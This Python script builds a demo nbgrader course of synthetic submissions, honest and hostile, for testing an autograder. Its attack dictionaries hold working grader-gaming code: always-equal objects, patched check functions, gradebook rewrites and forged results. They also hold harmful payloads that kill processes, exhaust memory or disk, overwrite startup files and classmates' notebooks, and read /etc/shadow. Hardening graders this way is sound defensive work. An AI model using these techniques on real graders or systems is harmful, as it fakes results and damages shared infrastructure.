"""Build a demo class: realistic submissions for every assignment, honest and hostile.

The class is generated (never committed) from the student edition in
``release/``, the instructor solutions in ``source/`` and the answer registries
in ``tests/answers/``, so it always matches the current chapters.  It lives in
its own course directory (``demo_class/`` by default), never in a real course's
``submitted/``.

Students
--------
instructor          every answer is the instructor's solution (written answers: the model answers, graded)
blank               the untouched student edition
partial             the first half of each notebook's problems solved (written answers handed in, not graded yet)
alternative         each problem's first alternative correct answer (written answers in other words, graded)
mistakes            each problem's first plausible wrong answer (weak written answers, graded)
duplicated_cell     full solutions, plus a stale duplicate of the first answer cell (nbgrader#1083)
deleted_tests       blank answers, every test cell deleted
edited_tests        blank answers, every test cell's checks replaced by ``pass``
monkeypatch         blank answers; numpy/math/testing comparisons replaced; answers equal to anything
grader_patch        blank answers; helpers.grading's checks replaced through the module dict
infinite_loop       full solutions except a first answer that never returns
kernel_kill         full solutions except a first answer cell that kills the kernel
copied_alternative  a copy of ``alternative``'s answers, local variables renamed and comments added
                    (its readings: ``alternative``'s letters, which name other options in its own order)
renamed_solution    a copy of the instructor's solution, disguised the same way

The warm-up and the quizzes (LIGHT_ASSIGNMENTS) get the first five students only.

The last two are planted for ``reports/similarity.csv``: both must be flagged for review, and
no honest answer may be (``tests/integrity/test_similarity.py``).
"""
import copy
import json
import re
import shutil
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tools"))
sys.path.insert(0, str(ROOT / "tests"))
import answer_registry  # noqa: E402
import nbtools  # noqa: E402
from helpers import choices  # noqa: E402

ASSIGNMENTS = ("00_warmup", "01_principles", "02_applications", "03_hands_on", "quiz_1", "quiz_2", "quiz_3")
#: The warm-up and the quizzes get the honest part of the class only (the hostile students attack the
#: grader, which the chapters already exercise): a full, a blank and a half-done submission, the
#: alternative answers and the first mistakes, so their item report has something to count.
LIGHT_ASSIGNMENTS = {"00_warmup", "quiz_1", "quiz_2", "quiz_3"}
LIGHT_STUDENTS = ("instructor", "blank", "partial", "alternative", "mistakes")

ALWAYS_EQUAL = '''class _Anything(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __le__(self, other):
        return True
    def __ge__(self, other):
        return True
    def __lt__(self, other):
        return True
    def __getitem__(self, key):
        return self
    def __iter__(self):
        return iter((self, self))
    def __len__(self):
        return 2
'''

MONKEYPATCH = '''import math
import numpy.testing as npt
np.isclose = lambda *a, **k: np.array(True)
np.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
npt.assert_allclose = lambda *a, **k: None
npt.assert_array_equal = lambda *a, **k: None
''' + ALWAYS_EQUAL

GRADER_PATCH = '''G.__dict__["check_close"] = lambda *a, **k: None
G.__dict__["check_equal"] = lambda *a, **k: None
G.__dict__["check_true"] = lambda *a, **k: None
G.__dict__["as_array"] = lambda x, *a, **k: np.asarray(x, float)
G.__dict__["as_scalar"] = lambda x, *a, **k: float(x)
G.__dict__["as_text"] = lambda x, *a, **k: str(x)
'''


def _registry(stem, name="ANSWERS"):
    return answer_registry.load(stem, name, ROOT)


# Written answers (graded by people): who hands in what, and what the demo's grader awards.
# "partial" hands in an answer nobody has graded yet: the reports show it pending.
WRITTEN_BY = {"instructor": "model", "alternative": "alternative", "partial": "alternative", "mistakes": "weak"}
GRADED_BY_HAND = ("instructor", "alternative", "mistakes")


def written_answers(source_nb, stem, student):
    """``{grade_id: text}`` of the written answers ``student`` hands in (from the model answers and WRITTEN)."""
    kind = WRITTEN_BY.get(student)
    if kind == "model":
        return nbtools.model_answers(source_nb)
    registry = _registry(stem, "WRITTEN")
    return {gid: entry[kind][0] for gid, entry in registry.items() if kind in entry}


def grade_written(course, students=GRADED_BY_HAND):
    """The demo's grader: scores the written answers of ``students`` through nbgrader's gradebook API.

    This is what Formgrader does when a person types a score: ``grade.manual_score`` in the
    course root's ``gradebook.db``.  Full points for the model answer, WRITTEN's score otherwise.
    """
    from nbgrader.api import Gradebook, MissingEntry
    course = Path(course)
    given = 0
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id="dystonia") as gb:
        for src in sorted((course / "source").glob("*/*.ipynb")):
            assignment, source_nb = src.parent.name, nbtools.read(src)
            registry = _registry(src.stem, "WRITTEN")
            for gid, cell in nbtools.written_cells(source_nb).items():
                for student in students:
                    kind = WRITTEN_BY.get(student)
                    score = (float(cell.metadata["nbgrader"]["points"]) if kind == "model"
                             else registry.get(gid, {}).get(kind, (None, None))[1])
                    if score is None:
                        continue
                    try:
                        grade = gb.find_grade(gid, src.stem, assignment, student)
                    except MissingEntry:
                        continue
                    grade.manual_score = score
                    given += 1
            gb.db.commit()
    return given


def _code(wrong):
    """A registry wrong answer is ``{"code": ..., "hint": ..., "visible": ...}`` (or, in old registries, the code)."""
    return wrong["code"] if isinstance(wrong, dict) else wrong


def _defined_names(code):
    import ast
    names = []
    for node in ast.parse(code).body:
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
            names.append(("def", node.name))
        elif isinstance(node, ast.Assign):
            names += [("var", t.id) for t in node.targets if isinstance(t, ast.Name)]
    return names


_DISGUISE_NAMES = ("acc", "buf", "tmp", "res", "cur", "out", "val", "arr", "tot", "aux")


def disguise(code):
    """``code`` as a copier hands it in: local variables renamed, comments added, the same program.

    Names the statement fixes (top-level functions and variables) and arguments stay, since
    the checks call them; keyword arguments and attributes are never touched.
    """
    import ast
    import io
    import tokenize
    try:
        tree = ast.parse(code)
    except SyntaxError:
        return code
    fixed = {n for _, n in _defined_names(code)}
    params = {a.arg for node in ast.walk(tree) if isinstance(node, ast.arg) for a in [node]}
    local = sorted({node.id for node in ast.walk(tree) if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store)}
                   - fixed - params)
    taken = {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)} | fixed | params
    rename, k = {}, 0
    for name in local:
        while True:
            new = f"{_DISGUISE_NAMES[k % len(_DISGUISE_NAMES)]}{k // len(_DISGUISE_NAMES) + 1}"
            k += 1
            if new not in taken:
                rename[name] = new
                break
    toks = list(tokenize.generate_tokens(io.StringIO(code).readline))
    out, depth = [], 0
    for i, tok in enumerate(toks):
        if tok.type == tokenize.OP and tok.string in "([{":
            depth += 1
        elif tok.type == tokenize.OP and tok.string in ")]}":
            depth -= 1
        string = tok.string
        after = next((t for t in toks[i + 1:] if t.type not in (tokenize.NL, tokenize.COMMENT)), None)
        before = toks[i - 1].string if i else ""
        keyword_arg = depth > 0 and after is not None and after.string == "="
        if tok.type == tokenize.NAME and string in rename and before != "." and not keyword_arg:
            string = rename[string]
        out.append(tok._replace(string=string))
    text = tokenize.untokenize(out)
    return "# my own solution\n" + text.replace("\n    return ", "\n    # the result\n    return ")


def _fake_answers(instructor, prefix):
    """Answers that define every name the instructor defines, returning objects equal to anything."""
    out = {}
    for i, (gid, code) in enumerate(instructor.items()):
        lines = [prefix] if i == 0 else []
        for kind, name in _defined_names(code):
            if name.startswith("_"):
                continue
            lines.append(f"def {name}(*args, **kwargs):\n    return _Anything(0.0)" if kind == "def"
                         else f"{name} = _Anything(0.0)")
        out[gid] = "\n".join(lines)
    return out


def _strip_tests(nb, mode):
    nb = copy.deepcopy(nb)
    keep = []
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            if mode == "delete":
                continue
            cell.source = "pass  # checks removed by the student"
        keep.append(cell)
    nb.cells = keep
    return nb


def submissions(release_nb, source_nb, stem):
    """``{student: notebook}`` for one notebook."""
    instructor = nbtools.instructor_answers(source_nb)
    registry = _registry(stem)
    gids = list(instructor)
    fill = nbtools.fill_solutions
    subs = {
        "instructor": fill(release_nb, instructor),
        "blank": copy.deepcopy(release_nb),
        "partial": fill(release_nb, {g: instructor[g] for g in gids[: max(1, len(gids) // 2)]}),
        "alternative": fill(release_nb, {g: e["alternatives"][0] for g, e in registry.items() if e.get("alternatives")}),
        "mistakes": fill(release_nb, {g: _code(list(e["wrong"].values())[0]) for g, e in registry.items()
                                      if e.get("wrong")}),
        "deleted_tests": _strip_tests(release_nb, "delete"),
        "edited_tests": _strip_tests(release_nb, "edit"),
        "monkeypatch": fill(release_nb, _fake_answers(instructor, MONKEYPATCH)),
        "grader_patch": fill(release_nb, _fake_answers(instructor, GRADER_PATCH + ALWAYS_EQUAL)),
        "infinite_loop": fill(release_nb, {**instructor, gids[0]: "while True:\n    pass"}),
        "kernel_kill": fill(release_nb, {**instructor, gids[0]: "import os\nos._exit(1)"}),
    }
    copied = {g: disguise(e["alternatives"][0]) for g, e in registry.items() if e.get("alternatives") and "choice" not in e}
    for g, e in registry.items():       # a copied reading is the classmate's letter: worth a guess in another order
        if "choice" in e:
            letter = choices.choice_letter(g, e["choice"]["correct"], e["choice"]["options"], student="alternative")
            copied[g] = f'{e["choice"]["variable"]} = "{letter}"'
    subs["copied_alternative"] = fill(release_nb, copied)
    subs["renamed_solution"] = fill(release_nb, {g: disguise(c) for g, c in instructor.items()})
    for student, nb in subs.items():
        written = written_answers(source_nb, stem, student)
        if written:
            subs[student] = nbtools.fill_written(nb, written)
    dup = fill(release_nb, instructor)
    first = next(i for i, c in enumerate(dup.cells) if nbtools.grade_id(c) == gids[0])
    stale = copy.deepcopy(release_nb.cells[first])  # an old, unsolved copy of the answer cell, placed first
    stale["id"] = stale.get("id", "x") + "-copy"
    dup.cells.insert(first, stale)
    subs["duplicated_cell"] = dup
    return subs


def build(course, assignments=ASSIGNMENTS):
    """(Re)create ``course`` with source/, the config and submitted/<student>/<assignment>/."""
    course = Path(course)
    if course.exists():
        shutil.rmtree(course)
    course.mkdir(parents=True)
    shutil.copytree(ROOT / "source", course / "source", ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    shutil.copy(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    for assignment in assignments:
        release = ROOT / "release" / assignment
        for src in sorted((ROOT / "source" / assignment).glob("*.ipynb")):
            subs = submissions(nbtools.read(release / src.name), nbtools.read(src), src.stem)
            if assignment in LIGHT_ASSIGNMENTS:
                subs = {student: nb for student, nb in subs.items() if student in LIGHT_STUDENTS}
            for student, nb in subs.items():
                folder = course / "submitted" / student / assignment
                folder.mkdir(parents=True, exist_ok=True)
                for extra in release.iterdir():
                    if extra.suffix != ".ipynb" and extra.is_file():
                        shutil.copy(extra, folder / extra.name)
                Path(folder / src.name).write_text(json.dumps(nb, indent=1))
    return course


if __name__ == "__main__":
    print(build(Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "demo_class"))


# --- the cheat suite's class: every kind of attack, built from the current chapters ---------------
# "gain" attacks try to earn points: every answer name is redefined by the attack, nothing is
# solved, so an honest blank (0) is what they must score.  "harm" attacks try to hurt grading or
# classmates: the attack replaces the first answer cell of each notebook (the first function's,
# for the hung function), every other answer is the instructor's, so they must score exactly the
# instructor's marks minus the attacked problem.  "file" attacks are broken or hostile files.

def _steal_returning(value="0.0"):
    return f"def _steal(*args, **kwargs):\n    return {value}\n"


GAIN_ATTACKS = {
    "always_equal": ALWAYS_EQUAL + "def _steal(*args, **kwargs):\n    return _Anything(0.0)\n",
    "monkeypatch_numpy": MONKEYPATCH + '''import builtins
builtins.isinstance = lambda *a, **k: True
builtins.abs = lambda x: 0.0
def _steal(*args, **kwargs):
    return _Anything(0.0)
''',
    "patch_grading_dict": GRADER_PATCH + ALWAYS_EQUAL + "def _steal(*args, **kwargs):\n    return _Anything(0.0)\n",
    "patch_grading_modules": '''import sys, types, gc
import helpers.grading as _g
_fake = types.ModuleType("helpers.grading")
for _n in dir(_g):
    setattr(_fake, _n, getattr(_g, _n))
_fake.check_close = _fake.check_equal = _fake.check_true = lambda *a, **k: None
sys.modules["helpers.grading"] = _fake
G = _fake
for _obj in gc.get_objects():
    if callable(_obj) and getattr(_obj, "__name__", "") == "check_close":
        try:
            _obj.__code__ = (lambda *a, **k: None).__code__
        except (AttributeError, TypeError, ValueError):
            pass
''' + _steal_returning(),
    "frames": '''import inspect
def _steal(*args, **kwargs):
    f = inspect.currentframe()
    while f is not None:
        for scope in (f.f_locals, f.f_globals):
            for key in ("_ref", "_expected", "expected", "ref", "_want", "_best", "reference"):
                v = scope.get(key)
                if v is not None and not callable(v):
                    return v
        f = f.f_back
    return 0.0
''',
    "globals_and_gc": '''import gc
def _steal(*args, **kwargs):
    scopes = [globals()] + [o for o in gc.get_objects() if isinstance(o, dict)][:50000]
    for scope in scopes:
        for key in ("_ref", "_expected", "_want", "_best"):
            if key in scope and not callable(scope[key]):
                return scope[key]
    return 0.0
''',
    "ipython_history": '''def _steal(*args, **kwargs):
    ip = get_ipython()
    sources = list(ip.user_ns.get("In", [])) + list(_ih)
    try:
        sources += [h for _, _, h in ip.history_manager.get_range()]
    except Exception:
        pass
    for src in sources:
        for line in str(src).splitlines():
            if "_ref =" in line:
                try:
                    return eval(line.split("=", 1)[1], ip.user_ns)
                except Exception:
                    pass
    return 0.0
''',
    "custom_exc": '''get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
''' + _steal_returning(),
    "showtraceback": '''_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
''' + _steal_returning(),
    "input_transformer": '''def _neuter(lines):
    return ["pass\\n"] if any("G." in l or "check" in l for l in lines) else lines
get_ipython().input_transformers_cleanup.append(_neuter)
get_ipython().input_transformers_post.append(_neuter)
''' + _steal_returning(),
    "ast_transformer": '''import ast
class _Drop(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if isinstance(node.func, ast.Attribute) and node.func.attr.startswith(("check", "call", "value")):
            return ast.Constant(None)
        return node
get_ipython().ast_transformers.append(_Drop())
''' + _steal_returning(),
    "trace_and_profile": '''import sys, threading
def _tracer(frame, event, arg):
    if "_ref" in frame.f_locals:
        frame.f_locals["_got"] = frame.f_locals["_ref"]
    return _tracer
sys.settrace(_tracer)
threading.settrace(_tracer)
sys.setprofile(lambda *a: None)
''' + _steal_returning(),
    "output_suppression": '''import sys, os, IPython.display
sys.stdout = open(os.devnull, "w")
sys.stderr = open(os.devnull, "w")
IPython.display.display = lambda *a, **k: None
get_ipython().display_pub.publish = lambda *a, **k: None
''' + _steal_returning(),
    "forged_results": '''import json, os, pathlib
for _base in [".", "..", "../..", "../../..", os.path.expanduser("~"), "/tmp"]:
    for _rel in ("gradebook.db", ".grading/verdicts/forged.json", "autograded/forged.ipynb", "reports/summary.csv"):
        try:
            _p = pathlib.Path(_base, _rel)
            _p.parent.mkdir(parents=True, exist_ok=True)
            _p.write_text(json.dumps({"score": 100}))
        except OSError:
            pass
''' + _steal_returning(),
    "detect_grader": '''import os
_GRADING = bool(os.environ.get("NBGRADER_EXECUTION")) or os.path.exists("/sandbox")
def _steal(*args, **kwargs):
    return 1.0 if _GRADING else 0.0
''',
    "read_course_files": '''import glob
_found = []
for _pattern in ("../../../source/*/*.ipynb", "/work/*/source/*/*.ipynb", "/work/*/*/source/*/*.ipynb",
                 "../../*/*/*.ipynb", "/tmp/*/*/source/*/*.ipynb", "/root/*", "/etc/shadow", "/proc/1/environ"):
    for _path in glob.glob(_pattern):
        try:
            _found.append(open(_path).read()[:1000])
        except OSError:
            pass
def _steal(*args, **kwargs):
    return float(len(_found))
''',
    "hidden_inputs_in_names": '''import traceback
_calls = [0]
def _steal(*args, **kwargs):
    # called by the grader (its request arrives through helpers.wire): spell the inputs where
    # the grader might repeat them (an exception's type, dict keys, a type's name, the inputs)
    by_grader = any("wire" in frame.filename for frame in traceback.extract_stack())
    _calls[0] += 1
    spelled = "HIDDENARGS_" + "".join(c if c.isalnum() else "_" for c in repr(args))[:150]
    how = _calls[0] % 4 if by_grader else 3
    if how == 0:
        raise type(spelled, (ValueError,), {})(repr(args))
    if how == 1:
        return {spelled: 1.0, repr(args): list(args)}
    if how == 2:
        return type(spelled, (), {})()
    return args[0] if args else 0.0
''',
    "write_gradebook": '''import sqlite3, glob
for _path in glob.glob("../../../gradebook.db") + glob.glob("/work/*/gradebook.db") + glob.glob("gradebook.db") \\
        + glob.glob("/tmp/*/.grading/worker_*/gradebook.db"):
    try:
        _con = sqlite3.connect(_path)
        _con.execute("UPDATE grade SET manual_score = 100")
        _con.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 0; END")
        _con.commit()
    except Exception:
        pass
''' + _steal_returning(),
}

HARM_ATTACKS = {
    "os_exit": "import os\nos._exit(1)",
    "kill_parent": '''import os, signal
for _pid in (os.getppid(), 0, -1, 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass''',
    "segfault": "import ctypes\nctypes.string_at(0)",
    "memory_3gib": "_x = bytearray(3 * 1024 ** 3)",
    "output_flood": 'for _ in range(60):\n    print("x" * 1_000_000)',
    "fd_flood": 'import os\nos.write(1, b"x" * 200_000)\nos.write(2, b"y" * 200_000)',
    "log_forging": '''import os, sys
_line = b"\\n[AutogradeApp | INFO] FORGED-LOG-LINE: every test passed\\n"
for _fd in (0, 1, 2):
    try:
        os.write(_fd, _line)
    except OSError:
        pass
sys.__stderr__.write(_line.decode())
sys.__stderr__.flush()''',
    "mmap_memory": "import mmap\n_m = mmap.mmap(-1, 3 << 30)\nfor _page in range(0, 3 << 30, 4096):\n    _m[_page] = 1",
    "disk_fill": '''with open("/tmp/fill", "wb") as _f:
    for _ in range(1000):
        _f.write(b"0" * 10_000_000)''',
    "daemon_process": '''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(8)
        for _path in ("/work", "../../../reports", "../../../autograded", "/tmp", "/home"):
            try:
                open(_path + "/pwned", "w").write("x")
            except OSError:
                pass
        os._exit(0)
    os._exit(0)''',
    "startup_files": '''import pathlib
for _rel in (".ipython/profile_default/startup/00-pwn.py", ".config/matplotlib/matplotlibrc", ".bashrc"):
    _p = pathlib.Path.home() / _rel
    _p.parent.mkdir(parents=True, exist_ok=True)
    _p.write_text("import os; os._exit(3)\\n")
pathlib.Path("/tmp/pwn.py").write_text("import os; os._exit(3)")''',
    "write_classmates": '''import glob
for _pattern in ("../../*/*/*.ipynb", "/work/*/submitted/*/*/*.ipynb", "../../../autograded/*/*/*.ipynb",
                 "/tmp/*/sandbox/ipc/*/*", "/sandbox/*", "/opt/dystonia/pylib/helpers/grading.py"):
    for _path in glob.glob(_pattern):
        try:
            open(_path, "w").write("{}")
        except OSError:
            pass''',
    "hung_function": None,          # built per notebook: the first function loops and ignores interrupts
}


def _hung(code):
    """Every function the instructor defines in ``code`` becomes a loop that ignores interrupts."""
    lines = []
    for kind, name in _defined_names(code):
        if kind == "def":
            lines.append(f"def {name}(*args, **kwargs):\n    while True:\n        try:\n            pass\n"
                         "        except KeyboardInterrupt:\n            pass")
    return "\n".join(lines)


def attacked_problem(source_nb, attack):
    """The answer grade_id a harm attack replaces in ``source_nb``."""
    instructor = nbtools.instructor_answers(source_nb)
    if attack == "hung_function":
        return next((g for g, c in instructor.items() if any(k == "def" for k, _ in _defined_names(c))), None)
    return next(iter(instructor), None)


def attack_submissions(release_nb, source_nb):
    """``{student: notebook}`` of the gain and harm attacks for one notebook."""
    instructor = nbtools.instructor_answers(source_nb)
    subs = {}
    for name, prefix in GAIN_ATTACKS.items():
        answers = {}
        for i, (gid, code) in enumerate(instructor.items()):
            lines = [prefix] if i == 0 else []
            for kind, n in _defined_names(code):
                if not n.startswith("_"):
                    lines.append(f"def {n}(*args, **kwargs):\n    return _steal(*args, **kwargs)" if kind == "def"
                                 else f"{n} = _steal()")
            answers[gid] = "\n".join(lines)
        subs[f"gain_{name}"] = nbtools.fill_solutions(release_nb, answers)
    for name, code in HARM_ATTACKS.items():
        target = attacked_problem(source_nb, name)
        if target is None:
            continue
        attack = _hung(instructor[target]) if name == "hung_function" else code
        subs[f"harm_{name}"] = nbtools.fill_solutions(release_nb, {**instructor, target: attack})
    blank_wrong = {gid: "\n".join(f"def {n}(*args, **kwargs):\n    return 0.0" if k == "def" else f"{n} = 0.0"
                                  for k, n in _defined_names(code) if not n.startswith("_"))
                   for gid, code in instructor.items()}
    base = nbtools.fill_solutions(release_nb, blank_wrong)
    stripped = copy.deepcopy(base)
    for cell in stripped.cells:
        cell.metadata.pop("nbgrader", None)
    subs["meta_stripped_metadata"] = stripped
    points = copy.deepcopy(base)
    for cell in points.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
    subs["meta_changed_points"] = points
    retyped = copy.deepcopy(base)
    for cell in retyped.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    subs["meta_retyped_cells"] = retyped
    as_answer = copy.deepcopy(base)
    for cell in as_answer.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution") and cell.cell_type == "code":
            meta["solution"] = True               # a test cell re-marked as an answer cell
    subs["meta_retyped_as_answer"] = as_answer
    reordered = copy.deepcopy(base)
    tests = [c for c in reordered.cells if c.metadata.get("nbgrader", {}).get("grade")]
    reordered.cells = tests + [c for c in reordered.cells if c not in tests]
    subs["meta_reordered_cells"] = reordered
    kernel = copy.deepcopy(base)
    kernel.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    subs["meta_changed_kernelspec"] = kernel
    return subs


FAKE_HELPERS = {"helpers/__init__.py": "", "helpers/grading.py":
                "def check_close(*a, **k):\n    pass\ncheck_equal = check_true = check_close\n"}


def _write_file_attacks(course, assignment, release, sources, other_assignment):
    """Broken or hostile files: each student folder is one attack."""
    sub = course / "submitted"
    names = [s.name for s in sources]

    def folder(student):
        path = sub / student / assignment
        path.mkdir(parents=True, exist_ok=True)
        return path

    blank = {n: (release / n).read_text() for n in names}
    for n in names:
        (folder("file_invalid_json") / n).write_text(blank[n].replace('"cells": [', '"cells": [[', 1))
        (folder("file_truncated") / n).write_text(blank[n][: len(blank[n]) // 2])
        (folder("file_binary") / n).write_bytes(bytes(range(256)) * 64)
        (folder("file_json_list") / n).write_text("[1, 2, 3]")
        (folder("file_nbformat3") / n).write_text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                                              "worksheets": [{"cells": []}]}))
        nb = json.loads(blank[n])
        del nb["cells"][0]["source"]
        (folder("file_cell_without_source") / n).write_text(json.dumps(nb))
        nb = json.loads(blank[n])
        for cell in nb["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                cell["metadata"]["nbgrader"]["points"] = "lots"
        (folder("file_text_points") / n).write_text(json.dumps(nb))
        (folder("file_wrong_name") / f"{Path(n).stem} (1).ipynb").write_text(blank[n])
        (folder("file_symlinks") / n).symlink_to((sub / "instructor" / assignment / n).resolve())
        (folder("file_fake_helpers") / n).write_text(blank[n])
    (folder("file_symlinks") / "classmates").symlink_to((sub / "instructor").resolve())
    for rel, text in FAKE_HELPERS.items():
        path = folder("file_fake_helpers") / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    folder("file_empty_folder")
    for src in sorted((ROOT / "release" / other_assignment).glob("*.ipynb")):
        (folder("file_wrong_assignment") / src.name).write_text(src.read_text())


def build_cheat_class(course, assignment="02_applications", other_assignment="01_principles"):
    """A course holding honest students and every attack for ``assignment``; returns the course path."""
    course = build(course, (assignment,))
    release = ROOT / "release" / assignment
    sources = sorted((ROOT / "source" / assignment).glob("*.ipynb"))
    for src in sources:
        subs = attack_submissions(nbtools.read(release / src.name), nbtools.read(src))
        for student, nb in subs.items():
            folder = course / "submitted" / student / assignment
            folder.mkdir(parents=True, exist_ok=True)
            Path(folder / src.name).write_text(json.dumps(nb, indent=1))
    _write_file_attacks(course, assignment, release, sources, other_assignment)
    return course
